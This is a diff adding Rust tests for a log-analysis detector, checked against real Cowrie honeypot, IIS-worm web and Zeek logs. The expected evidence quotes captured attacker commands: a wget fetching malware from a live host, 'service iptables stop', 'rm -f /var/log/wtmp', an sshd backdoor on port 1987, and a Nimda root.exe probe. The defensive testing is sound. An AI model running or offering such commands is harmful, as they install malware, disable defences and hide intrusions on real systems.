@@ -1,0 +1,320 @@
+//! Behaviour findings on real files: the compromise in a Cowrie log comes first and quotes
+//! its commands, IIS worm sources are named with their paths and outrank ordinary sources,
+//! roles decide the action, business hours stay out of honeypot and web logs, and a
+//! two-event source cannot reach the auto-block threshold on statistics alone. Expected
+//! values were worked out from the raw files with Python's json module and a regex.
+
+mod real_data;
+
+use std::collections::BTreeSet;
+use std::sync::atomic::AtomicBool;
+
+use netsleuth::detection::behaviour::{FindingKind, Severity};
+use netsleuth::detection::{detect, Action, Detection, DetectionSettings, Role, SourceVerdict};
+use netsleuth::events::EventTable;
+
+fn run(rel: &str) -> (EventTable, Detection) {
+    let (t, report) = real_data::read(rel);
+    let mut settings = DetectionSettings {
+        cache_dir: None,
+        ..DetectionSettings::default()
+    };
+    settings.features = settings.features.resolve(&[report.format]);
+    let d = detect(&t, &settings, &AtomicBool::new(false)).unwrap();
+    (t, d)
+}
+
+fn ranked(d: &Detection) -> Vec<&SourceVerdict> {
+    let mut v: Vec<&SourceVerdict> = d.sources.iter().collect();
+    v.sort_by(|a, b| a.priority_cmp(b));
+    v
+}
+
+fn source<'a>(d: &'a Detection, ip: &str) -> &'a SourceVerdict {
+    d.sources
+        .iter()
+        .find(|s| s.stats.ip.to_string() == ip)
+        .unwrap_or_else(|| panic!("no source {ip}"))
+}
+
+fn kinds(s: &SourceVerdict) -> BTreeSet<FindingKind> {
+    s.findings.iter().map(|f| f.kind).collect()
+}
+
+#[test]
+fn the_cowrie_compromise_is_the_first_finding_and_quotes_its_commands() {
+    let (_, d) = run("honeypot/cowrie/cowrie.json.2018-05-19");
+    let order = ranked(&d);
+    let top = order[0];
+    assert_eq!(top.stats.ip.to_string(), "111.73.46.18");
+    assert_eq!(top.severity(), Some(Severity::Critical));
+    assert_eq!(top.action, Action::Block);
+    let lead = &top.reasons[0];
+    for part in [
+        "logged in as root (password `1234`) on the first attempt",
+        "ran 15 commands",
+        "`wget http://mdb7.cn:8081/exp`",
+        "`service iptables stop`",
+        "`rm -f /var/log/wtmp`",
+    ] {
+        assert!(lead.contains(part), "{part} missing from {lead}");
+    }
+    let k = kinds(top);
+    for want in [
+        FindingKind::ShellCommands,
+        FindingKind::ValidLogin,
+        FindingKind::MalwareDownload,
+        FindingKind::ImpairDefences,
+        FindingKind::IndicatorRemoval,
+    ] {
+        assert!(k.contains(&want), "{want:?} missing: {k:?}");
+    }
+    assert!(
+        !k.contains(&FindingKind::BruteForce),
+        "no failed login at all"
+    );
+    let download = top
+        .findings
+        .iter()
+        .find(|f| f.kind == FindingKind::MalwareDownload)
+        .unwrap();
+    assert_eq!(
+        download.evidence,
+        [
+            "http://mdb7.cn:8081/exp",
+            "http://111.73.46.18/xcsyn",
+            "http://111.73.46.18/xcudp"
+        ]
+    );
+    assert!(download
+        .summary
+        .contains("could not fetch http://mdb7.cn:8081/exp"));
+    let shell = &top.findings[0];
+    assert_eq!(shell.kind, FindingKind::ShellCommands);
+    assert_eq!(shell.rows.len(), 15, "one row per command.input");
+    assert_eq!(
+        shell.evidence[0],
+        "ln -sf /usr/sbin/sshd /tmp/su;/tmp/su -oPort=1987"
+    );
+}
+
+#[test]
+fn cowrie_sessions_rank_above_any_volume_of_failed_logins() {
+    let (_, d) = run("honeypot/cowrie/cowrie.json.2018-05-19");
+    let order = ranked(&d);
+    let with_commands: Vec<usize> = (0..order.len())
+        .filter(|&i| kinds(order[i]).contains(&FindingKind::ShellCommands))
+        .collect();
+    // 111.73.46.18, 115.75.221.229, 181.123.9.170 and 222.240.232.170 ran commands.
+    assert_eq!(with_commands.len(), 4);
+    let guessing_only: Vec<usize> = (0..order.len())
+        .filter(|&i| {
+            let k = kinds(order[i]);
+            k.contains(&FindingKind::BruteForce) && !k.contains(&FindingKind::ValidLogin)
+        })
+        .collect();
+    assert!(!guessing_only.is_empty());
+    assert!(with_commands.iter().max() < guessing_only.iter().min());
+    // 185.222.209.108 failed 74 times, the most in the file.
+    let brute = source(&d, "185.222.209.108");
+    let f = brute
+        .findings
+        .iter()
+        .find(|f| f.kind == FindingKind::BruteForce)
+        .unwrap();
+    assert!(
+        f.summary.starts_with("74 failed logins with "),
+        "{}",
+        f.summary
+    );
+    assert_eq!(f.rows.len(), 74);
+}
+
+#[test]
+fn proxy_use_names_its_destinations() {
+    let (_, d) = run("honeypot/cowrie/cowrie.json.2018-05-19");
+    let s = source(&d, "195.3.147.49");
+    let f = s
+        .findings
+        .iter()
+        .find(|f| f.kind == FindingKind::ProxyUse)
+        .unwrap();
+    assert!(
+        f.summary.starts_with(
+            "used the honeypot as a proxy to 23 hosts on port 80 (48 requests; 2a02:6b8:a::a, "
+        ),
+        "{}",
+        f.summary
+    );
+    assert_eq!(f.evidence.len(), 20, "capped");
+    let login = s
+        .findings
+        .iter()
+        .find(|f| f.kind == FindingKind::ValidLogin)
+        .unwrap();
+    assert_eq!(login.evidence, ["root/admin"]);
+    assert!(login.summary.contains("(8 logins)"), "{}", login.summary);
+}
+
+/// The sources that sent the full 16-request Nimda sequence, from the raw files.
+const NIMDA_1: [&str; 9] = [
+    "24.215.76.171",
+    "67.160.23.219",
+    "24.184.248.242",
+    "220.184.157.75",
+    "193.225.139.8",
+    "203.218.203.84",
+    "172.137.108.65",
+    "80.55.241.98",
+    "69.224.37.139",
+];
+const NIMDA_13: [&str; 11] = [
+    "69.107.86.231",
+    "24.3.189.27",
+    "24.19.174.236",
+    "211.170.206.37",
+    "68.52.163.51",
+    "68.52.252.3",
+    "63.189.137.78",
+    "220.123.109.66",
+    "24.112.83.60",
+    "67.121.90.181",
+    "24.174.157.55",
+];
+
+#[test]
+fn nimda_sources_are_named_and_outrank_every_ordinary_source() {
+    for (file, nimda) in [
+        (
+            "web-access-logs/honeynet-redhat71_access_log.1",
+            &NIMDA_1[..],
+        ),
+        (
+            "web-access-logs/honeynet-redhat71_access_log.13",
+            &NIMDA_13[..],
+        ),
+    ] {
+        let (_, d) = run(file);
+        let order = ranked(&d);
+        let rank = |ip: &str| order.iter().position(|s| s.stats.ip.to_string() == ip);
+        let worst_nimda = nimda.iter().map(|ip| rank(ip).unwrap()).max().unwrap();
+        let first_ordinary = order
+            .iter()
+            .position(|s| s.findings.is_empty())
+            .expect("ordinary sources");
+        assert!(
+            worst_nimda < first_ordinary,
+            "{file}: a Nimda source ranks {worst_nimda}, an ordinary one {first_ordinary}"
+        );
+        for ip in nimda {
+            let s = source(&d, ip);
+            let worm = s
+                .findings
+                .iter()
+                .find(|f| f.kind == FindingKind::WormProbe)
+                .unwrap_or_else(|| panic!("{file} {ip}: {:?}", s.reasons));
+            assert_eq!(worm.rows.len(), 16, "{file} {ip}");
+            assert_eq!(worm.evidence.len(), 16, "{file} {ip}: 16 distinct paths");
+            assert_eq!(worm.evidence[0], "GET /scripts/root.exe?/c+dir");
+            assert!(
+                worm.summary.ends_with("(answered 400 ×2, 404 ×14)"),
+                "{file} {ip}: {}",
+                worm.summary
+            );
+            assert!(s.reasons[0].starts_with("IIS worm probe (Nimda / Code Red): 16 requests"));
+            assert_eq!(s.action, Action::Block);
+        }
+    }
+}
+
+#[test]
+fn code_red_answered_with_success_is_possibly_succeeded() {
+    // honeynet-redhat71_access_log.13 line 121: default.ida answered 200.
+    let (_, d) = run("web-access-logs/honeynet-redhat71_access_log.13");
+    let s = source(&d, "61.62.154.32");
+    assert_eq!(s.findings[0].kind, FindingKind::WormProbe);
+    assert_eq!(s.findings[0].severity, Severity::Critical);
+    assert!(s.findings[0].summary.ends_with("possibly succeeded"));
+    // 61.187.233.187 asked the honeypot for http://www.yahoo.com/ 44 times (log.1).
+    let (_, d) = run("web-access-logs/honeynet-redhat71_access_log.1");
+    let p = source(&d, "61.187.233.187");
+    assert_eq!(kinds(p), BTreeSet::from([FindingKind::ProxyUse]));
+    assert_eq!(p.findings[0].rows.len(), 44);
+}
+
+#[test]
+fn internal_hosts_are_isolated_never_blocked() {
+    let (_, d) = run("zeek/trickbot_conn.log");
+    let infected = source(&d, "172.16.9.233");
+    assert_eq!(infected.role, Role::Internal);
+    assert_eq!(infected.action, Action::Isolate);
+    let dc = source(&d, "172.16.9.5");
+    assert_ne!(dc.action, Action::Block);
+    assert!(!dc.proposed_block);
+    assert!(d
+        .sources
+        .iter()
+        .filter(|s| s.role == Role::Internal)
+        .all(|s| !s.proposed_block));
+}
+
+#[test]
+fn link_local_and_multicast_are_never_proposed() {
+    let mut seen = Vec::new();
+    for file in [
+        "zeek/trickbot_conn.log",
+        "zeek/conn_json.log",
+        "honeypot/cowrie/cowrie.json.2018-05-19",
+        "aws-vpc-flow-logs/vpcflowlogs.log",
+    ] {
+        let (_, d) = run(file);
+        for s in &d.sources {
+            if netsleuth::detection::is_unroutable(s.stats.ip) {
+                assert_eq!(s.role, Role::Unroutable, "{file} {}", s.stats.ip);
+                assert!(!s.proposed_block, "{file} {}", s.stats.ip);
+                seen.push(s.stats.ip.to_string());
+            }
+        }
+    }
+    // conn_json.log has four connections from fe80::a179:b3ff:199:2314.
+    assert_eq!(seen, ["fe80::a179:b3ff:199:2314"]);
+}
+
+#[test]
+fn business_hours_stay_out_of_web_and_honeypot_logs() {
+    for file in [
+        "web-access-logs/hackers-access.log",
+        "honeypot/cowrie/cowrie.json.2018-05-19",
+    ] {
+        let (_, d) = run(file);
+        for s in &d.sources {
+            assert!(s.stats.off_hours_share.is_none(), "{file} {}", s.stats.ip);
+            assert!(
+                s.reasons.iter().all(|r| !r.contains("business hours")),
+                "{file} {}: {:?}",
+                s.stats.ip,
+                s.reasons
+            );
+        }
+    }
+}
+
+#[test]
+fn a_two_event_source_stays_below_auto_block_on_statistics_alone() {
+    let (_, d) = run("web-access-logs/hackers-access.log");
+    let s = source(&d, "115.231.162.216");
+    assert_eq!(s.stats.events, 2);
+    assert!(s.findings.is_empty());
+    assert!(s.confidence < 70.0, "{}", s.confidence);
+    for s in d
+        .sources
+        .iter()
+        .filter(|s| s.findings.is_empty() && s.stats.events <= 2)
+    {
+        assert!(
+            !s.proposed_block,
+            "{} ({} events)",
+            s.stats.ip, s.stats.events
+        );
+    }
+}
